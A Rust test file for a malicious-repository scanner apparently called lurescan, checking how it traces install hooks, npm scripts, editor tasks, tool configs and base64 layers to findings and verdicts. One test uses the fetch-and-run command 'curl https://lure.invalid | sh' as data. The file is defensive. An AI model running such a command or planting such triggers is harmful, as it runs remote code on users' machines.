//! What runs, when, and by which path: reach over facts built by hand, without any parser.

use lurescan::analyse::{Action, CommandLine, Facts, Import, Platform, Start};
use lurescan::artifact::{Kind, Place};
use lurescan::correlate::correlate;
use lurescan::finding::{Finding, Report, Verdict};
use lurescan::locator::{BytePath, Codec, Locator, Step};
use lurescan::scan::{Detail, RawGap, Record, RootOutcome};
use lurescan::signal::{Basis, Evidence, GapReason, Moment, Signal};
use lurescan::source::Target;

use crate::case::ENGINE;

fn file(path: &str, kind: Kind, facts: Facts, signals: Vec<Signal>) -> Record {
    let sha256 = [path.bytes().fold(7u8, |h, b| h.wrapping_mul(31).wrapping_add(b)); 32];
    let at = Locator::root(Step::File(BytePath::from(path)));
    let facts = Box::new(facts);
    Record { at, kind, disguise: None, length: 10, sha256, facts, signals, normal: None, ending: None }
}

fn signal(basis: Basis) -> Signal {
    let primary = Evidence { span: 0..3, line: 4, column: 2, label: String::new(), excerpt: "eval".into() };
    Signal::new("shell-pipe-to-shell", basis, "runs what it fetched", primary)
}

fn command(text: &str, actions: Vec<Action>) -> CommandLine {
    CommandLine {
        text: text.into(),
        place: Place { line: 9, column: 5, ..Place::default() },
        platform: Platform::Any,
        actions,
    }
}

fn start(moment: Moment, label: &str, command: Option<usize>) -> Start {
    let by = lurescan::mechanism::all().find(|row| row.moment == moment).expect("a mechanism of every moment");
    Start { label: label.into(), command, ..Start::at(by, Place { line: 9, column: 5, ..Place::default() }) }
}

fn runs(path: &str) -> Action {
    Action::Interprets { interpreter: "node".into(), path: path.into(), span: 0..0 }
}

fn loads(specifier: &str) -> Facts {
    let import = Import { specifier: specifier.into(), names: Vec::new(), at_load: true, place: Place::default() };
    Facts { imports: vec![import], ..Facts::default() }
}

fn report(records: Vec<Record>, gaps: Vec<RawGap>) -> Report {
    let target = Target::Path("/nonexistent".into());
    correlate(
        "case",
        &target,
        vec![RootOutcome { records, gaps, ..RootOutcome::default() }],
        Vec::new(),
        &[],
        &ENGINE,
        Detail::Findings,
    )
}

fn only(report: &Report) -> &Finding {
    assert_eq!(report.findings.len(), 1, "{:#?}", report.findings);
    &report.findings[0]
}

/// package.json whose `prepare` runs `node server/server.js`, which loads ./routes/auth, which holds the signal.
fn server(moment: Moment, basis: Basis) -> Vec<Record> {
    let manifest = Facts {
        commands: vec![command("node server/server.js", vec![runs("server/server.js")])],
        starts: vec![start(moment, "prepare", Some(0))],
        ..Facts::default()
    };
    vec![
        file("package.json", Kind::Json, manifest, vec![]),
        file("server/routes/auth.js", Kind::JavaScript, Facts::default(), vec![signal(basis)]),
        file("server/server.js", Kind::JavaScript, loads("./routes/auth"), vec![]),
    ]
}

#[test]
fn the_chain_goes_from_the_trigger_through_commands_and_imports_to_the_behaviour() {
    let report = report(server(Moment::Install, Basis::CompleteChain), vec![]);
    let finding = only(&report);
    assert_eq!(finding.moment, Some(Moment::Install));
    let path: Vec<&str> = finding.chain.iter().map(|step| step.path.as_str()).collect();
    assert_eq!(path, ["package.json", "server/server.js", "server/routes/auth.js"]);
    assert_eq!(finding.chain[0].excerpt, "node server/server.js");
    assert_eq!(report.verdict, Verdict::Block);
}

#[test]
fn reach_sets_the_moment_and_never_whether_a_complete_chain_counts() {
    let mut records = server(Moment::Install, Basis::CompleteChain);
    records.remove(0);
    let report = report(records, vec![]);
    assert_eq!(only(&report).moment, Some(Moment::Unknown));
    assert_eq!(report.verdict, Verdict::Block);
}

#[test]
fn a_file_reached_at_build_and_at_start_is_judged_as_started() {
    let mut records = server(Moment::Build, Basis::RemoteToShell);
    assert_eq!(report(server(Moment::Build, Basis::RemoteToShell), vec![]).verdict, Verdict::Pass);
    records[0].facts.starts.push(start(Moment::Start, "start", Some(0)));
    let report = report(records, vec![]);
    assert_eq!(only(&report).moment, Some(Moment::Start));
    assert_eq!(report.verdict, Verdict::Review);
}

#[test]
fn a_package_script_leads_to_the_script_it_names_with_its_pre_and_post() {
    let script = |name: &str| Action::PackageScript {
        manager: "npm".into(),
        script: name.into(),
        folder: String::new(),
        span: 0..0,
    };
    let tasks = Facts {
        commands: vec![command("npm run dev", vec![script("dev")])],
        starts: vec![start(Moment::Open, "watch", Some(0))],
        ..Facts::default()
    };
    let mut records = server(Moment::Run, Basis::CompleteChain);
    records[0].facts.starts[0].label = "predev".into();
    records.push(file(".vscode/tasks.json", Kind::Json, tasks, vec![]));
    let report = report(records, vec![]);
    assert_eq!(only(&report).moment, Some(Moment::Open));
    assert_eq!(only(&report).chain[0].path, ".vscode/tasks.json");
}

#[test]
fn a_tools_configuration_runs_when_the_tool_does() {
    for (name, moment) in [
        ("postcss.config.mjs", Moment::Start),
        ("app/next.config.js", Moment::Start),
        ("jest.config.ts", Moment::Test),
        ("vitest.config.ts", Moment::Test),
        (".eslintrc.js", Moment::Build),
        ("src/config.js", Moment::Unknown),
    ] {
        let config = file(name, Kind::JavaScript, Facts::default(), vec![signal(Basis::StructuralTrick)]);
        assert_eq!(only(&report(vec![config], vec![])).moment, Some(moment), "{name}");
    }
}

#[test]
fn a_package_script_that_an_editor_task_runs_is_judged_as_opened() {
    let script =
        Action::PackageScript { manager: "npm".into(), script: "prep".into(), folder: String::new(), span: 0..0 };
    let tasks = Facts {
        commands: vec![command("npm run prep", vec![script])],
        starts: vec![start(Moment::Open, "task", Some(0))],
        ..Facts::default()
    };
    let mut pipe = command("curl https://lure.invalid | sh", Vec::new());
    pipe.place.end = 20;
    let manifest =
        Facts { commands: vec![pipe], starts: vec![start(Moment::Run, "prep", Some(0))], ..Facts::default() };
    let records = |tasks: Facts| {
        vec![
            file(".vscode/tasks.json", Kind::Json, tasks, vec![]),
            file("package.json", Kind::Json, manifest.clone(), vec![signal(Basis::RemoteToShell)]),
        ]
    };
    assert_eq!(report(records(Facts::default()), vec![]).verdict, Verdict::Pass);
    let report = report(records(tasks), vec![]);
    assert_eq!(only(&report).moment, Some(Moment::Open));
    assert_eq!(only(&report).chain[0].path, ".vscode/tasks.json");
    assert_eq!(report.verdict, Verdict::Block);
}

#[test]
fn a_loop_of_imports_ends() {
    let mut records = server(Moment::Start, Basis::CompleteChain);
    *records[1].facts = loads("../server");
    assert_eq!(report(records, vec![]).verdict, Verdict::Block);
}

#[test]
fn a_decoded_layer_runs_when_its_file_does() {
    let mut records = server(Moment::Install, Basis::Context);
    records[1].signals.clear();
    let at = records[1].at.child(Step::Layer { codec: Codec::Base64, at: 5..90 });
    let mut layer = file("x", Kind::JavaScript, Facts::default(), vec![signal(Basis::CompleteChain)]);
    layer.at = at;
    records.push(layer);
    let report = report(records, vec![]);
    assert_eq!(only(&report).moment, Some(Moment::Install));
    assert_eq!(only(&report).path, "server/routes/auth.js");
    assert_eq!(only(&report).layers.len(), 2);
}

#[test]
fn the_same_content_twice_is_one_finding_at_the_smaller_locator() {
    let copy = |path: &str| {
        let mut record = file(path, Kind::JavaScript, Facts::default(), vec![signal(Basis::CompleteChain)]);
        record.sha256 = [1; 32];
        record
    };
    let report = report(vec![copy("z/deep/a.js"), copy("b.js"), copy("a.js")], vec![]);
    assert_eq!(only(&report).locator, "a.js");
    assert_eq!(only(&report).also_at, ["b.js", "z/deep/a.js"]);
}

#[test]
fn a_started_duplicate_decides_for_both() {
    let mut records = server(Moment::Install, Basis::RemoteToShell);
    let mut copy = file("a.js", Kind::JavaScript, Facts::default(), vec![signal(Basis::RemoteToShell)]);
    copy.sha256 = records[1].sha256;
    records.push(copy);
    let report = report(records, vec![]);
    assert_eq!(only(&report).path, "server/routes/auth.js");
    assert_eq!(only(&report).decides, Verdict::Review);
    assert_eq!(only(&report).also_at, ["a.js"]);
}

#[test]
fn the_order_in_which_roots_come_back_changes_nothing() {
    let mut turned = server(Moment::Install, Basis::CompleteChain);
    turned.reverse();
    let (mut a, mut b) = (report(server(Moment::Install, Basis::CompleteChain), vec![]), report(turned, vec![]));
    (a.environment, b.environment) = (None, None);
    assert_eq!(a, b);
}

#[test]
fn an_unread_image_matters_only_where_a_trigger_opens_it() {
    let gap = |path: &str| RawGap {
        at: Locator::root(Step::File(BytePath::from(path))),
        kind: Some(Kind::Image),
        stage: "unpack",
        reason: GapReason::Malformed("cut short".into()),
    };
    let image = || file("logo.png", Kind::Image, Facts::default(), vec![]);
    assert_eq!(report(vec![image()], vec![gap("logo.png")]).verdict, Verdict::Pass);
    let mut records = server(Moment::Install, Basis::Context);
    records[0].facts.commands[0].actions = vec![runs("logo.png")];
    records.push(image());
    assert_eq!(report(records, vec![gap("logo.png")]).verdict, Verdict::Incomplete);
}
